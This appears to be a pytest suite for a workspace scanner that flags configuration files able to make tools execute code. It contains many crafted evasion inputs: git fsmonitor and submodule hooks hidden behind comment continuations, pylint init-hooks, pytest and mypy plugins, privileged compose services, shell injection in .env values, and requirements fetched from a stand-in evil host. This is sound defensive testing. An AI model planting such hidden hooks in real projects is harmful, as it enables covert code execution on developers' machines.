"""Ways to write what a program on the host obeys so that a reader of its format does not see it. Each got past us once."""

from __future__ import annotations

import pytest

from paddock.workspace.hazards import catalogue, contents, formats

RULES = catalogue.load()


def evidence(path: str, new: str, old: str | None = None) -> str:
    """What the catalogue shows of a file."""
    before = None if old is None else old.encode()
    return "\n".join(
        line for rule in RULES.matching(path) for line in contents.evidence(rule, before, new.encode()) or ()
    )


@pytest.mark.parametrize(
    ("path", "new", "shown"),
    [
        # Git does not continue comments, and an escaped backslash at the end of a line continues nothing.
        (".gitmodules", '# \\\n[submodule "a"]\n# \\\n\tupdate = !evil\n', "submodule.a.update: !evil"),
        (".gitconfig", "[user]\n\tname = a ; \\\n[core]\n\tfsmonitor = evil\n", "core.fsmonitor: evil"),
        (".gitconfig", "[user]\n\tname = a\\\\\n[core]\n\tfsmonitor = evil\n", "core.fsmonitor: evil"),
        (".gitconfig", '[user]\n\tname = "#\\\n"\n[core]\n\tfsmonitor = evil\n', "core.fsmonitor: evil"),
        # configparser: only what is indented deeper than its name is a value, and a section may be one.
        ("mypy.ini", "[mypy]\n  strict = True\n  plugins = ./evil.py\n", "mypy.plugins: ./evil.py"),
        ("mypy.ini", "[mypy]\nstrict = True\n  [metadata]\nplugins = ./evil.py\n", "mypy.plugins: ./evil.py"),
        # iniconfig, of pytest, takes what follows a section's name for a comment.
        ("pytest.ini", "[pytest]#.markers\naddopts = -p evil\n", "addopts: -p evil"),
        ("pytest.ini", "[pytest] .markers\naddopts = -p evil\n", "behind the name of a section"),
        # Names that a person may choose, chosen so that they look harmless.
        (".pylintrc", "[metadata]\ninit-hook=evil\n", "evil"),
        ("setup.cfg", "[pylint.omit]\ninit-hook = evil\n", "init-hook: evil"),
        ("pyproject.toml", "[tool.pylint.exclude]\ninit-hook = 'evil'\n", "init-hook"),
        ("pyproject.toml", "[tool.pixi.tasks]\nx-dependencies = 'evil'\n", "evil"),
        (".vscode/settings.json", '{"mcp": {"servers": {"a.editor.b": {"command": "evil"}}}}', "evil"),
        (".vscode/settings.json", '{"terminal.integrated.profiles.linux": {"a.validate": {"path": "evil"}}}', "evil"),
        # Harmless keys with a value that is not.
        ("setup.cfg", "[metadata]\nversion = attr: evil.VERSION\n", "attr: evil"),
        ("setup.cfg", "[options]\ninstall_requires =\n  a @ https://evil.example.test/a.zip\n", "evil"),
        ("requirements.txt", "-r https://evil.example.test/r.txt\n", "evil"),
        ("requirements.txt", "dist/evil.zip\n", "evil"),
        ("requirements.txt", "file:evil\n", "evil"),
        # Braces, anchors, tabs and line breaks where YAML allows them.
        ("compose.yml", "services:\n  web: &a {labels: [], privileged: true}\n", "services.web.privileged"),
        ("compose.yml", "{x-a: 1, services: {web: {privileged: true}}}\n", "privileged"),
        ("compose.yml", "services:\n  web: {\n    labels: a, privileged: true\n  }\n", "several lines"),
        ("compose.yml", "services:\n  web: {labels: a, privileged\n   : true}\n", "several lines"),
        ("compose.yml", 'services:\n  web: {"priv\\x69leged": true}\n', "escapes"),
        ("compose.yml", "services:\n  web:\n    privileged:\ttrue\n", "services.web.privileged"),
        # A tab where a blank was expected.
        ("a.go", "package a\n//go:generate\tevil\n", "evil"),
        ("a.go", "package a\n//#cgo\tLDFLAGS: evil\n", "evil"),
        # A shell and make read the same file as loaders of environments.
        (".env", "A=1;evil\n", "a command"),
        (".env", "A=1 evil\n", "a command"),
        (".env", "A=<(evil)\n", "a command"),
        (".env", "A=${shell evil}\n", "a command"),
        (".env", "A:=${shell evil}\n", "a command"),
        (".env", "A='x\nB=y'; evil\n", "a command"),
        (".env", "A=${B@P}\n", "a command"),
        ("package.json", '{"directories": {"bin": "./evil"}}', "evil"),
    ],
)
def test_it_is_seen(path, new, shown):
    assert shown in evidence(path, new)


def test_what_make_expands_is_no_comment():
    old = "define HELP\n# usage\nendef\n$(info $(HELP))\n"
    assert "evil" in evidence("Makefile", old.replace("usage", "$(shell evil)"), old)


def test_a_filter_that_is_taken_away_leaves_secrets_as_they_are():
    old = "secrets/* filter=crypt\n*.c text\n"
    assert "taken away: secrets/* filter=crypt" in evidence(".gitattributes", "*.c text\n", old)
    assert "!filter" in evidence(".gitattributes", f"{old}secrets/* !filter\n", old)


@pytest.mark.parametrize(
    "value", ["", "1", "a#b", "a # b", '"a b"', "'a b'", '"a$B"', "${A:-b/c}:$D", "https://example.test/?a=b", '""', "a'b'\"c\""]
)  # fmt: skip
def test_an_honest_value_is_no_command(value):
    assert evidence(".env", f"A={value}\n") == ""


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("gitconfig", "\\\n" * 200_000),
        ("gitconfig", "a\\\n" * 200_000),
        ("environment", "A=" + "$a" * 200_000 + ";"),
        ("environment", 'A="' + "${a}" * 100_000),
        ("yaml", "a: {" + "b: c, " * 30_000 + "}"),
    ],
)
def test_time_is_linear(name, text):
    formats.read(name, text.encode())


@pytest.mark.parametrize(
    "path",
    [
        ".hg/hgrc", ".jj/repo/config.toml", "node_modules/prettier/index.js", "evil.dist-info/entry_points.txt",
        "lib/site-packages/evil.py", "rust-project.json", "pyrefly.toml", "compile_commands.json", "uno.config.ts",
        "Makefile.linux", ".github/deep/down/x.sh",
    ],
)  # fmt: skip
def test_places_that_programs_look_at(path):
    assert RULES.matching(path)
